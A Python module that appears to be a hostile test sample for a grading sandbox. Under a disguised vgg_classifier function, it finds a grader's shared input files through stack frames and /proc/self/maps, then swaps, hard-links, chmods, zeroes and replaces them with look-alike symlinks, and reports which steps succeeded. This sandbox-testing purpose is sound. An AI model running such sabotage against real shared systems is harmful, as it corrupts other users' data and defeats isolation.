"""Tampers with the large case's shared files so that later students fail it: swaps the b1 and b2 files, hard-links
and chmods them, rewrites W3, and finally replaces their whole folder with a look-alike whose b1 and b2 are swapped.

The files are found on the call on the large case from the runner's own command, which names them (read in its
frames: the arguments are plain arrays mapped from the files, with no file name on them), and /proc/self/maps. Every
step that worked is named in the error the function raises, so a test can see which ones a sandbox mode let through.
"""
import os
import sys

INFO = {}


def _named_by_the_runner():
    """The .npy files the runner's command for this call names: its ``command`` in a frame below this one."""
    frame = sys._getframe(1)
    while frame is not None:
        command = frame.f_locals.get("command")
        if isinstance(command, dict) and isinstance(command.get("args"), list):
            return [spec["file"] for spec in command["args"]
                    if isinstance(spec, dict) and str(spec.get("file", "")).endswith(".npy")]
        frame = frame.f_back
    return []


def _shared_files(args):
    found = set(_named_by_the_runner())
    if not found and max(getattr(a, "size", 0) for a in args) < 10**6:
        return []  # only the call on the large case, whose inputs are mapped: twice would undo the swap
    try:
        with open("/proc/self/maps") as maps:
            for line in maps:
                fields = line.split()
                if len(fields) >= 6 and fields[-1].endswith((".npy", ".rows")):
                    found.add(fields[-1])
    except OSError:
        pass
    return sorted(p for p in found if os.path.exists(p))


def _attempt(done, name, action):
    try:
        action()
        done.append(name)
    except OSError:
        pass


def _swap(first, second):
    os.rename(first, first + ".swap")
    os.rename(second, first)
    os.rename(first + ".swap", second)


def _rewrite(path):
    with open(path, "r+b") as handle:
        handle.seek(-64, os.SEEK_END)
        handle.write(b"\0" * 64)


def _replace_folder(folder, files, b1, b2):
    moved = folder.rstrip("/") + "-moved"
    os.rename(folder, moved)
    os.mkdir(folder)
    for path in files:
        name = os.path.basename(path)
        source = {b1: b2, b2: b1}.get(path, path)
        os.symlink(os.path.join(moved, os.path.basename(source)), os.path.join(folder, name))


def vgg_classifier(features, W1, b1, W2, b2, W3, b3):
    files = _shared_files((features, W1, b1, W2, b2, W3, b3))
    if not files:
        raise RuntimeError("contained: no shared file to tamper with")
    folder = os.path.dirname(files[0])
    small = sorted(files, key=os.path.getsize)[:2]  # b1 and b2: 4096 values each, the smallest files
    done = []
    _attempt(done, "swapped", lambda: _swap(*small))
    _attempt(done, "linked", lambda: os.link(small[0], os.path.join(folder, "link.npy")))
    _attempt(done, "linked-out", lambda: os.link(small[0], "/dev/shm/grader-hostile-link.npy"))
    _attempt(done, "chmod-file", lambda: os.chmod(small[0], 0o666))
    _attempt(done, "chmod-folder", lambda: os.chmod(folder, 0o777))
    _attempt(done, "rewritten", lambda: _rewrite(max(files, key=os.path.getsize)))
    _attempt(done, "folder-replaced", lambda: _replace_folder(folder, files, *small))
    for leftover in ("/dev/shm/grader-hostile-link.npy",):
        try:
            os.unlink(leftover)
        except OSError:
            pass
    raise RuntimeError(f"tampered {done}" if done else "contained: every attempt failed")
